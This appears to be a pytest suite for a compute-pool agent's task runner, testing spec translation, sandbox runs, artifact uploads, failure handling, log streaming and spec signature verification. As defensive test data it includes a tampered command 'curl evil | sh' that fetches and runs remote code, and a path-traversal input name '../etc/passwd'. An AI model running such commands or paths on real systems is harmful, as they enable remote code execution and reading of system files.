"""The runner against the stub hub, with a scripted in-process sandbox.

`FakeSandbox` is shared with the daemon tests (and their agent subprocess).
"""

from __future__ import annotations

import base64
import hashlib
import logging
import re
import tempfile
import threading
import time
from pathlib import Path
from typing import Any

import pytest

from agent.client import Backoff, Claim, HubClient
from agent.runner import Cancellation, LogStreamer, SpecError, TaskRunner, build_run_request
from agent.sandbox import OutputFile, RunRequest, RunResult, SandboxRefused
from tests.agent.test_client import HubKeys, HubStub, Recorded, claim_payload, hub, task_spec

__all__ = ["FakeSandbox", "hub"]


class FakeSandbox:
    """Plays a sandbox: emits output, optionally holds until cancelled, writes outputs."""

    name = "fake"

    def __init__(
        self,
        *,
        exit_code: int | None = 0,
        chunks: list[tuple[str, bytes]] | None = None,
        outputs: dict[str, bytes] | None = None,
        hold_s: float = 0.0,
        timed_out: bool = False,
        oom_killed: bool = False,
        error: str | None = None,
        raises: Exception | None = None,
    ) -> None:
        self.exit_code = exit_code
        self.chunks = chunks or []
        self.outputs = outputs or {}
        self.hold_s = hold_s
        self.timed_out = timed_out
        self.oom_killed = oom_killed
        self.error = error
        self.raises = raises
        self.requests: list[RunRequest] = []
        self.running = threading.Event()
        self.workspaces: list[Path] = []
        # What the hub had been sent when each result was let go (RunResult.release).
        self.released: list[list[str]] = []
        self.hub: HubStub | None = None

    def run(
        self, req: RunRequest, *, on_output: Any = None, cancel: Any = None, hold: Any = None
    ) -> RunResult:
        self.requests.append(req)
        if self.raises is not None:
            raise self.raises
        self.running.set()
        for stream, data in self.chunks:
            on_output(stream, data)
        started = time.monotonic()
        cancelled = bool(self.hold_s) and cancel.wait(self.hold_s)
        workspace = Path(tempfile.mkdtemp(prefix="fake-sandbox-"))
        self.workspaces.append(workspace)
        files = []
        for name, content in self.outputs.items():
            (workspace / name).write_bytes(content)
            digest = hashlib.sha256(content).hexdigest()
            files.append(OutputFile(name, workspace / name, len(content), digest))
        self.running.clear()
        hub = self.hub
        result = RunResult(
            exit_code=None if cancelled else self.exit_code,
            timed_out=self.timed_out,
            oom_killed=self.oom_killed,
            cancelled=cancelled,
            stdout_tail="out-tail",
            stderr_tail="err-tail",
            outputs=[] if cancelled else files,
            duration_s=time.monotonic() - started,
            error=self.error,
            workspace=workspace,
            started_at=started,
        )
        if hub is not None:
            result.release = lambda: self.released.append(paths(hub))
        return result


@pytest.fixture
def keys() -> HubKeys:
    return HubKeys()


def make_runner(hub: HubStub, keys: HubKeys, sandbox: FakeSandbox, **kwargs: Any) -> TaskRunner:
    kwargs.setdefault("log_flush_interval_s", 0.05)
    return TaskRunner(
        client=HubClient(hub.url, "agent-key"),
        sandbox=sandbox,  # type: ignore[arg-type]
        hub_public_key=keys.public_b64,
        **kwargs,
    )


def claim_for(keys: HubKeys, attempt_id: int = 40, **spec: Any) -> Claim:
    return Claim.from_payload(claim_payload(keys, attempt_id, **spec))


def paths(hub: HubStub) -> list[str]:
    return [r.path.rsplit("/", 1)[-1] for r in hub.requests]


def only_fail(hub: HubStub) -> dict[str, Any]:
    (failed,) = hub.received("/fail")
    assert not hub.received("/complete")
    return failed.json()


# -- translating the spec ----------------------------------------------------------------------


def test_it_builds_a_container_request_with_slice_env_and_limits() -> None:
    request = build_run_request(task_spec())

    assert request.image == "computepool/busybox"
    assert request.command == ["sh", "-c", "echo hi"]
    assert request.inputs == {"data.txt": b"1 2 3"}
    assert request.env == {
        "MODE": "fast",
        "CP_TASK_ID": "12",
        "CP_JOB_ID": "3",
        "CP_SLICE_INDEX": "1",
        "CP_SLICE_COUNT": "4",
    }
    assert (request.timeout_s, request.memory_mb, request.cpus) == (30, 1024, 2.0)
    assert (request.work_mb, request.gpus) == (128, 0)


@pytest.mark.parametrize(
    ("interpreter", "file_name", "command"),
    [
        ("sh", "script.sh", ["sh", "-c", 'exec sh "$COMPUTEPOOL_IN/script.sh"']),
        ("python", "script.py", ["sh", "-c", 'exec python3 "$COMPUTEPOOL_IN/script.py"']),
    ],
)
def test_it_puts_a_script_in_the_inputs(interpreter: str, file_name: str, command: list) -> None:
    spec = task_spec(kind="script", script="print(1)\n", interpreter=interpreter, command=None)

    request = build_run_request(spec)

    assert request.command == command
    assert request.inputs[file_name] == b"print(1)\n"
    assert request.inputs["data.txt"] == b"1 2 3"


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"kind": "vm"}, "unknown task kind"),
        ({"command": []}, "without a command"),
        ({"image": None}, "without an image"),
        ({"inputs": {"../etc/passwd": "eA=="}}, "bad input file name"),
        ({"inputs": {"a": "not base64!"}}, "not valid base64"),
        ({"timeout_s": 0}, "timeout_s must be positive"),
        ({"kind": "script", "script": "x", "interpreter": "perl"}, "unknown interpreter"),
    ],
)
def test_it_rejects_a_spec_it_cannot_run(change: dict, message: str) -> None:
    with pytest.raises(SpecError, match=message):
        build_run_request(task_spec(**change))


# -- running -----------------------------------------------------------------------------------


def test_it_uploads_outputs_with_checksums_then_completes(hub: HubStub, keys: HubKeys) -> None:
    sandbox = FakeSandbox(outputs={"a.txt": b"alpha", "b.bin": b"\x00\x01"})
    hub.routes["POST", "/api/v1/agent/attempts/40/complete"] = (
        200,
        {"status": "succeeded", "next": claim_payload(keys, attempt_id=41)},
    )

    outcome = make_runner(hub, keys, sandbox).run(
        claim_for(keys), cancel=Cancellation(), want_next=True
    )

    assert outcome.result == "succeeded"
    assert outcome.next is not None and outcome.next.attempt_id == 41
    assert paths(hub) == ["progress", "artifacts", "artifacts", "complete"]
    uploads = [r.form() for r in hub.received("/artifacts")]
    assert {u["name"]: u["file"] for u in uploads} == {b"a.txt": b"alpha", b"b.bin": b"\x00\x01"}
    for upload in uploads:
        assert upload["sha256"].decode() == hashlib.sha256(upload["file"]).hexdigest()
    body = hub.received("/complete")[0].json()
    assert body["artifacts"] == [
        {"name": "a.txt", "size": 5, "sha256": hashlib.sha256(b"alpha").hexdigest()},
        {"name": "b.bin", "size": 2, "sha256": hashlib.sha256(b"\x00\x01").hexdigest()},
    ]
    assert (body["lease_token"], body["exit_code"], body["want_next"]) == ("lease-40", 0, True)
    assert not sandbox.workspaces[0].exists()  # cleaned up


def test_it_logs_where_the_time_went_and_lets_the_sandbox_go_after_the_report(
    hub: HubStub, keys: HubKeys, caplog: pytest.LogCaptureFixture
) -> None:
    sandbox = FakeSandbox()
    sandbox.hub = hub
    caplog.set_level(logging.INFO, logger="agent.runner")

    outcome = make_runner(hub, keys, sandbox).run(
        claim_for(keys), cancel=Cancellation(), want_next=False
    )

    assert outcome.result == "succeeded"
    (line,) = [r.getMessage() for r in caplog.records if "succeeded in" in r.getMessage()]
    parts = ("prepare", "sandbox start", "run", "sandbox stop", "report")
    assert re.search(r"0 output\(s\); " + ", ".join(rf"{p} \d+ ms" for p in parts) + "$", line)
    # A warm container is removed after the hub has the result, not before.
    assert sandbox.released == [["progress", "complete"]]


def test_it_refuses_a_spec_whose_signature_fails(hub: HubStub, keys: HubKeys) -> None:
    sandbox = FakeSandbox()
    claim = claim_for(keys)
    claim.spec["command"] = ["sh", "-c", "curl evil | sh"]

    outcome = make_runner(hub, keys, sandbox).run(claim, cancel=Cancellation(), want_next=False)

    assert sandbox.requests == []
    assert (outcome.result, outcome.failure_class) == ("failed", "infra")
    assert only_fail(hub)["detail"] == "spec signature invalid"
    assert only_fail(hub)["failure_class"] == "infra"


def test_it_refuses_a_spec_signed_by_another_key(hub: HubStub, keys: HubKeys) -> None:
    sandbox = FakeSandbox()
    claim = claim_for(HubKeys())

    make_runner(hub, keys, sandbox).run(claim, cancel=Cancellation(), want_next=False)

    assert sandbox.requests == []
    assert only_fail(hub)["detail"] == "spec signature invalid"


def test_it_refuses_a_signed_spec_replayed_for_another_attempt(hub: HubStub, keys: HubKeys) -> None:
    sandbox = FakeSandbox()
    claim = claim_for(keys, attempt_id=40)
    claim.attempt_id = 99

    make_runner(hub, keys, sandbox).run(claim, cancel=Cancellation(), want_next=False)

    assert sandbox.requests == []
    assert only_fail(hub)["failure_class"] == "infra"


FAILURES = [
    (FakeSandbox(exit_code=3), "job", "exit code 3", 3),
    (FakeSandbox(exit_code=None, timed_out=True), "timeout", "timed out after 30 s", None),
    (FakeSandbox(exit_code=137, oom_killed=True), "infra", "out of memory (limit 1024 MB)", 137),
    (FakeSandbox(exit_code=None, error="docker died"), "infra", "sandbox error: docker died", None),
    (FakeSandbox(raises=OSError("disk full")), "infra", "sandbox error: disk full", None),
    (
        FakeSandbox(raises=SandboxRefused("image not allowed")),
        "infra",
        "refused by the sandbox: image not allowed",
        None,
    ),
]


@pytest.mark.parametrize(("sandbox", "failure_class", "detail", "exit_code"), FAILURES)
def test_it_classifies_failures(
    hub: HubStub,
    keys: HubKeys,
    sandbox: FakeSandbox,
    failure_class: str,
    detail: str,
    exit_code: int | None,
) -> None:
    outcome = make_runner(hub, keys, sandbox).run(
        claim_for(keys), cancel=Cancellation(), want_next=False
    )

    body = only_fail(hub)
    assert (body["failure_class"], body["detail"], body["exit_code"]) == (
        failure_class,
        detail,
        exit_code,
    )
    assert outcome.failure_class == failure_class


def test_it_stops_before_running_when_the_lease_is_already_stale(
    hub: HubStub, keys: HubKeys
) -> None:
    hub.routes["POST", "/api/v1/agent/attempts/40/progress"] = (409, {"error": "stale_lease"})
    sandbox = FakeSandbox()

    outcome = make_runner(hub, keys, sandbox).run(
        claim_for(keys), cancel=Cancellation(), want_next=False
    )

    assert outcome.result == "stale"
    assert sandbox.requests == []
    assert paths(hub) == ["progress"]


def test_it_cancels_the_run_when_a_log_post_finds_the_lease_stale(
    hub: HubStub, keys: HubKeys
) -> None:
    hub.routes["POST", "/api/v1/agent/attempts/40/log"] = (409, {"error": "stale_lease"})
    sandbox = FakeSandbox(chunks=[("stdout", b"working\n")], hold_s=10)
    started = time.monotonic()

    outcome = make_runner(hub, keys, sandbox).run(
        claim_for(keys), cancel=Cancellation(), want_next=False
    )

    assert outcome.result == "stale"
    assert time.monotonic() - started < 5
    assert not hub.received("/fail") and not hub.received("/complete")


def test_it_reports_a_cancelled_run_as_a_job_failure(hub: HubStub, keys: HubKeys) -> None:
    sandbox = FakeSandbox(hold_s=10)
    cancel = Cancellation()
    threading.Timer(0.1, cancel.request).start()

    outcome = make_runner(hub, keys, sandbox).run(claim_for(keys), cancel=cancel, want_next=True)

    assert (outcome.failure_class, outcome.detail) == ("job", "cancelled")
    assert only_fail(hub)["detail"] == "cancelled"


def test_it_streams_output_in_batches_with_increasing_seq(hub: HubStub, keys: HubKeys) -> None:
    lines = [("stdout", f"line {n}\n".encode()) for n in range(200)]
    sandbox = FakeSandbox(chunks=[*lines, ("stderr", b"warn\xff\n")], hold_s=0.3)

    make_runner(hub, keys, sandbox).run(claim_for(keys), cancel=Cancellation(), want_next=False)

    posts = [r.json() for r in hub.received("/log")]
    assert 2 <= len(posts) <= 5
    assert [p["seq"] for p in posts] == list(range(len(posts)))
    stdout = "".join(p["data"] for p in posts if p["stream"] == "stdout")
    assert stdout == "".join(f"line {n}\n" for n in range(200))
    assert [p["data"] for p in posts if p["stream"] == "stderr"] == ["warn\ufffd\n"]
    assert {p["lease_token"] for p in posts} == {"lease-40"}


def test_it_bounds_buffered_output_and_drops_what_the_hub_cannot_take(
    hub: HubStub, keys: HubKeys
) -> None:
    hub.routes["POST", "/api/v1/agent/attempts/40/log"] = (503, {"error": "unavailable"})
    stale: list[bool] = []
    streamer = LogStreamer(
        client=HubClient(hub.url, "agent-key"),
        claim=claim_for(keys),
        on_stale=lambda: stale.append(True),
        batch_bytes=40,
        flush_interval_s=10,
        max_pending_bytes=100,
    )
    streamer.start()

    for _ in range(30):
        streamer.feed("stdout", b"0123456789")
    streamer.close()

    # 200 bytes never fit the buffer; the first failed post drops the other 100 with it.
    assert streamer.dropped_bytes == 300
    assert len(hub.received("/log")) == 1
    assert stale == []


def test_it_completes_when_only_the_log_endpoint_fails(hub: HubStub, keys: HubKeys) -> None:
    hub.routes["POST", "/api/v1/agent/attempts/40/log"] = (500, b"oops")
    sandbox = FakeSandbox(chunks=[("stdout", b"hello\n")], hold_s=0.2)

    outcome = make_runner(hub, keys, sandbox).run(
        claim_for(keys), cancel=Cancellation(), want_next=False
    )

    assert outcome.result == "succeeded"
    assert hub.received("/complete")[0].json()["stdout_tail"] == "out-tail"


def test_it_reports_progress_lines(hub: HubStub, keys: HubKeys) -> None:
    chunks = [("stdout", b"CP_PROGRESS 10 load"), ("stdout", b"ing\nCP_PROGRESS 55 half\n")]
    sandbox = FakeSandbox(chunks=chunks, hold_s=0.3)

    make_runner(hub, keys, sandbox).run(claim_for(keys), cancel=Cancellation(), want_next=False)

    reported = [(r.json()["progress"], r.json()["message"]) for r in hub.received("/progress")]
    assert reported[0] == (0, "started")
    assert reported[-1] == (55, "half")


def test_it_retries_the_report_while_the_hub_is_down(hub: HubStub, keys: HubKeys) -> None:
    answers = iter([(503, {"error": "down"}), (502, b"bad gateway")])

    def flaky(_: Recorded) -> tuple[int, Any]:
        return next(answers, (200, {"status": "succeeded", "next": None}))

    hub.routes["POST", "/api/v1/agent/attempts/40/complete"] = flaky
    sleeps: list[float] = []

    outcome = make_runner(
        hub, keys, FakeSandbox(), sleep=sleeps.append, backoff_factory=lambda: Backoff(jitter=0)
    ).run(claim_for(keys), cancel=Cancellation(), want_next=False)

    assert outcome.result == "succeeded"
    assert sleeps == [1, 2]
    assert len(hub.received("/complete")) == 3


def test_it_never_runs_two_attempts_in_one_slot(hub: HubStub, keys: HubKeys) -> None:
    sandbox = FakeSandbox(hold_s=10)
    runner = make_runner(hub, keys, sandbox)
    cancel = Cancellation()
    first = threading.Thread(
        target=runner.run, args=(claim_for(keys),), kwargs={"cancel": cancel, "want_next": False}
    )
    first.start()
    assert sandbox.running.wait(5)

    with pytest.raises(RuntimeError, match="already running"):
        runner.run(claim_for(keys, 41), cancel=Cancellation(), want_next=False)

    cancel.request()
    first.join(5)
    assert len(sandbox.requests) == 1


def test_it_sends_script_input_base64_decoded(hub: HubStub, keys: HubKeys) -> None:
    sandbox = FakeSandbox()
    payload = base64.b64encode(b"\x00binary").decode()
    claim = claim_for(
        keys, kind="script", script="echo $CP_SLICE_INDEX", interpreter="sh", inputs={"x": payload}
    )

    make_runner(hub, keys, sandbox).run(claim, cancel=Cancellation(), want_next=False)

    (request,) = sandbox.requests
    assert request.inputs == {"x": b"\x00binary", "script.sh": b"echo $CP_SLICE_INDEX"}
    assert request.command == ["sh", "-c", 'exec sh "$COMPUTEPOOL_IN/script.sh"']
